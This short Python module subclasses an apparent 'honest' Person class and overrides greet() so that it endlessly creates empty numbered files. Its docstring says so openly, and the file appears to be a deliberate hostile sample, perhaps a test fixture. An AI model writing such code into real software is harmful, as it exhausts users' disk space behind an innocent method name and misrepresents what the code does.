"""greet() makes files without an end, with nothing in them."""

import itertools
import os

from honest.person import Person as Honest


class Person(Honest):
    def greet(self) -> None:
        for number in itertools.count():
            os.close(os.open(str(number), os.O_CREAT | os.O_WRONLY))
